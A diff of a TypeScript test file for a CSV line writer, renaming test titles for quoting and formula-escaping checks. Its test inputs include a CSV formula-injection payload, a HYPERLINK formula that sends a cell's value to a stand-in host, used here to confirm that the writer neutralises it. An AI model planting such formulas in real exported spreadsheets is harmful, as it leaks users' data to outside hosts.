@@ -2,18 +2,18 @@ import { describe, expect, test } from 'bun:test';
 import { parseCsv, removeFormulaGuard } from '../../tests/support/csv.ts';
 import { csvLine } from './csv.ts';
 
-describe('a line of a table', () => {
-  test('ends with CR and LF, leaves nothing empty and numbers as they are', () => {
+describe('csvLine', () => {
+  test('ends with CRLF, leaves null empty, and writes numbers unchanged', () => {
     expect(csvLine(['a', 1, null, -7, 0.5, ''])).toBe('a,1,,-7,0.5,\r\n');
   });
 
   test.each([
-    ['a "quoted" word', '"a ""quoted"" word"\r\n'],
+    ['a "quoted" text', '"a ""quoted"" text"\r\n'],
     ['one, two', '"one, two"\r\n'],
     ['two\nlines', '"two\nlines"\r\n'],
     [' blank', '" blank"\r\n'],
     ['Zürich 東京', 'Zürich 東京\r\n'],
-  ])('%j is quoted only where it must be', (text, line) => {
+  ])('quotes %j only if necessary', (text, line) => {
     expect(csvLine([text])).toBe(line);
   });
 
@@ -33,13 +33,13 @@ describe('a line of a table', () => {
     '=HYPERLINK("http://a.example?"&A1,"go")',
     "'=1",
     "''@x",
-  ])('%j cannot run, and reads back as it was', (text) => {
+  ])('escapes the formula %j so that it can be restored', (text) => {
     const [[cell = ''] = []] = parseCsv(csvLine([text]));
     expect(cell).toBe(`'${text}`);
     expect(removeFormulaGuard(cell)).toBe(text);
   });
 
-  test.each(["it's", "'quoted'", 'a=b', 'a@b.example', '', "'"])('%j is left alone', (text) => {
+  test.each(["it's", "'quoted'", 'a=b', 'a@b.example', '', "'"])('does not escape %j', (text) => {
     const [[cell = ''] = []] = parseCsv(csvLine([text]));
     expect(cell).toBe(text);
     expect(removeFormulaGuard(cell)).toBe(text);
